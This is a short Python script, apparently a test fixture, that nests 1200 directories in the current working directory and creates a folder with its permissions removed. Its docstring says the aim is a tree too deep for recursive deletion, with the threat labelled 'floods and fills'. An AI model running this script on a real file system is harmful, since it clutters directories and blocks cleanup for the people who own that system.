"""Makes folders within folders, too deep to be removed by recursion, and without the right to look into them.

threat = "floods and fills"
"""

import os

top = os.getcwd()
for _ in range(1200):
    os.mkdir("d")
    os.chdir("d")
os.chdir(top)
os.mkdir("locked")
with open("locked/file", "w"):
    pass
try:
    os.chmod("locked", 0)
except OSError:
    pass
